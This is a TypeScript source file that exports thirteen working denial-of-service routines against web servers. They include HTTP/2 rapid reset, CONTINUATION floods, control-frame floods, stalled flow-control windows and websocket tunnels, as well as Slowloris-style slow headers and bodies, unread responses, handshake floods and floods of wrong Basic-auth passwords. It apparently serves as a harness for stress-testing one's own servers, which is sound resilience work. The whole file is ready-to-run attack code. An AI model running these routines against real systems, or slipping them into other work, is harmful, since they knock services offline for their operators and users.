import {
  begunHeaders,
  body,
  chatter,
  continuation,
  headers,
  openHeaders,
  preface,
  reader,
  reset,
  settings,
  settingsTaken,
} from "./frames";
import { answered, open, seen, type Target } from "./sockets";

/** How much of an attack there is. */
export interface Amount {
  /** Connections at once. */
  readonly connections: number;
  /** New requests in a second, over all connections; 0 for as many as there can be. */
  readonly each?: number;
  /** What is asked for. */
  readonly path: string;
}

type Attack = (target: Target, amount: Amount) => void;

const question = ({ name }: Target, path: string, more: Readonly<Record<string, string>> = {}) => ({
  ":method": "GET",
  ":scheme": "https",
  ":authority": name,
  ":path": path,
  ...more,
});

/** Requests by HTTP/2, a hundred on each connection, whose answers nobody takes. */
const closedWindows: Attack = (target, { connections, each = 100, path }) => {
  let allowed = 0;
  setInterval(() => (allowed = Math.min(allowed + each / 10, each * 10)), 100);
  const one = (): void =>
    open(
      target,
      "h2",
      (socket) => {
        socket.write(Buffer.concat([preface, settings(0)]));
        let stream = 1;
        const timer = setInterval(() => {
          for (; stream < 200 && allowed >= 1; stream += 2, allowed--) {
            seen.asked++;
            socket.write(headers(stream, question(target, path)));
          }
        }, 50);
        socket.on(
          "data",
          reader((type, flags, which) => {
            if (type === 4 && !(flags & 1)) socket.write(settingsTaken);
            if (type === 1) answered("headers");
            if (type === 3 || which < 0) answered("reset");
          }),
        );
        socket.on("close", () => clearInterval(timer));
      },
      () => setTimeout(one, 200),
    );
  for (let count = 0; count < connections; count++) one();
};

/** Requests by HTTP/2 that are taken back at once. */
const rapidResets: Attack = (target, { connections, path }) => {
  const one = (): void =>
    open(
      target,
      "h2",
      (socket) => {
        socket.write(Buffer.concat([preface, settings(65_535)]));
        let stream = 1;
        const some = (): void => {
          if (socket.destroyed) return;
          const all: Buffer[] = [];
          for (let count = 0; count < 100; count++, stream += 2)
            all.push(headers(stream, question(target, path)), reset(stream));
          seen.asked += 100;
          if (stream > 1_000_000) socket.destroy();
          else if (socket.write(Buffer.concat(all))) setTimeout(some, 5);
          else socket.once("drain", some);
        };
        socket.on(
          "data",
          reader((type, flags) => {
            if (type === 4 && !(flags & 1)) socket.write(settingsTaken);
          }),
        );
        some();
      },
      () => setTimeout(one, 50),
    );
  for (let count = 0; count < connections; count++) one();
};

/** Headers by HTTP/2 that never end. */
const continuations: Attack = (target, { connections }) => {
  const one = (): void =>
    open(
      target,
      "h2",
      (socket) => {
        socket.write(Buffer.concat([preface, settings(65_535), begunHeaders(1, question(target, "/"))]));
        const some = (): void => {
          if (socket.destroyed) return;
          seen.asked++;
          const more = Buffer.concat(
            Array.from({ length: 20 }, (_, at) => continuation(1, { [`x-${at}`]: "x".repeat(100) })),
          );
          if (socket.write(more)) setTimeout(some, 5);
          else socket.once("drain", some);
        };
        socket.on("data", () => {});
        some();
      },
      () => setTimeout(one, 50),
    );
  for (let count = 0; count < connections; count++) one();
};

/** Frames by HTTP/2 that are no request, as many as are taken, and no answer to them is. */
const chatters: Attack = (target, { connections }) => {
  const one = (): void =>
    open(
      target,
      "h2",
      (socket) => {
        socket.write(Buffer.concat([preface, settings(65_535)]));
        const all = Buffer.concat(Array.from({ length: 1000 }, () => chatter));
        const some = (): void => {
          if (socket.destroyed) return;
          seen.asked += 3000;
          if (socket.write(all)) setTimeout(some, 5);
          else socket.once("drain", some);
        };
        socket.pause();
        some();
      },
      () => setTimeout(one, 50),
    );
  for (let count = 0; count < connections; count++) one();
};

/** Websockets by HTTP/2, many on each connection, on which much is said and nothing heard. */
const manyTunnels: Attack = (target, { connections, each = 20, path }) => {
  const asked = { ...question(target, path), ":method": "CONNECT", ":protocol": "websocket" };
  const one = (): void =>
    open(
      target,
      "h2",
      (socket) => {
        socket.write(Buffer.concat([preface, settings(0)]));
        for (let stream = 1; stream < each * 2; stream += 2) {
          seen.asked++;
          socket.write(openHeaders(stream, { ...asked, "sec-websocket-version": "13" }));
        }
        socket.on(
          "data",
          reader((type, flags, which) => {
            if (type === 4 && !(flags & 1)) socket.write(settingsTaken);
            if (type === 3) answered("reset");
            if (type !== 1) return;
            answered("headers");
            for (let count = 0; count < 4; count++) socket.write(body(which, 16_000));
          }),
        );
      },
      () => setTimeout(one, 500),
    );
  for (let count = 0; count < connections; count++) setTimeout(one, count * 20);
};

/** Connections of HTTP/1.1 on which something is begun and little follows. */
const slowly =
  (first: (target: Target, path: string) => string, drop: string): Attack =>
  (target, { connections, path }) => {
    const one = (): void =>
      open(
        target,
        "http/1.1",
        (socket) => {
          seen.asked++;
          if (first(target, path)) socket.write(first(target, path));
          const timer = drop ? setInterval(() => socket.write(drop), 3000) : undefined;
          socket.on("data", (data) =>
            answered(/^HTTP\/1.1 (\d+)/.exec(data.toString("latin1"))?.[1] ?? "more"),
          );
          socket.on("close", () => clearInterval(timer));
        },
        () => setTimeout(one, 500),
      );
    for (let count = 0; count < connections; count++) setTimeout(one, count);
  };

const slowBodies = slowly(
  ({ name }, path) => `POST ${path} HTTP/1.1\r\nHost: ${name}\r\nContent-Length: 10000000\r\n\r\nx`,
  "x",
);

const slowHeaders = slowly(({ name }, path) => `GET ${path} HTTP/1.1\r\nHost: ${name}\r\n`, "X-More: x\r\n");

const idle = slowly(() => "", "");

/** Large answers that are asked for and not read. */
const unread: Attack = (target, { connections, each = 100, path }) => {
  let begun = 0;
  const timer = setInterval(() => {
    for (let count = 0; count < each / 10; count++) {
      if (begun++ >= connections) return clearInterval(timer);
      open(target, "http/1.1", (socket) => {
        seen.asked++;
        socket.write(`GET ${path} HTTP/1.1\r\nHost: ${target.name}\r\n\r\n`);
        socket.pause();
      });
    }
  }, 100);
};

const upgrade = ({ name }: Target, path: string): string =>
  `GET ${path} HTTP/1.1\r\nHost: ${name}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\r\n\r\n`;

/** Websockets on which nothing is said. */
const silentTunnels = slowly(upgrade, "");

/** A masked message of 64 KiB, which the application sends back. */
const message = Buffer.concat([Buffer.from("82ff000000000000fffa00000000", "hex"), Buffer.alloc(65_530)]);

/** Websockets on which much is said and nothing heard. */
const stuckTunnels: Attack = (target, { connections, path }) => {
  const one = (): void =>
    open(target, "http/1.1", (socket) => {
      seen.asked++;
      socket.write(upgrade(target, path));
      socket.once("data", (data) => {
        answered(/^HTTP\/1.1 (\d+)/.exec(data.toString("latin1"))?.[1] ?? "more");
        socket.pause();
        const more = (): void => {
          if (!socket.destroyed && socket.write(message)) setImmediate(more);
          else socket.once("drain", more);
        };
        more();
      });
    });
  for (let count = 0; count < connections; count++) setTimeout(one, count * 5);
};

/** Handshakes, and nothing after. */
const handshakes: Attack = (target, { connections }) => {
  const one = (): void =>
    open(
      target,
      "http/1.1",
      (socket) => socket.destroy(),
      () => setTimeout(one, 1),
    );
  for (let count = 0; count < connections; count++) one();
};

/** Passwords that are not right, each another one. */
const wrongPasswords: Attack = (target, { connections, each = 100, path }) => {
  let guess = 0;
  const one = (): void =>
    open(
      target,
      "http/1.1",
      (socket) => {
        const next = (): void => {
          const password = Buffer.from(`anna:wrong${process.pid}-${guess++}`).toString("base64");
          seen.asked++;
          socket.write(
            `GET ${path} HTTP/1.1\r\nHost: ${target.name}\r\nAuthorization: Basic ${password}\r\n\r\n`,
          );
        };
        socket.on("data", (data) => {
          const status = /^HTTP\/1.1 (\d+)/.exec(data.toString("latin1"))?.[1];
          if (!status) return;
          answered(status);
          setTimeout(next, (1000 * connections) / each);
        });
        next();
      },
      () => setTimeout(one, 200),
    );
  for (let count = 0; count < connections; count++) one();
};

export const attacks = {
  closedWindows,
  rapidResets,
  continuations,
  chatters,
  manyTunnels,
  slowBodies,
  slowHeaders,
  idle,
  unread,
  silentTunnels,
  stuckTunnels,
  handshakes,
  wrongPasswords,
} satisfies Record<string, Attack>;
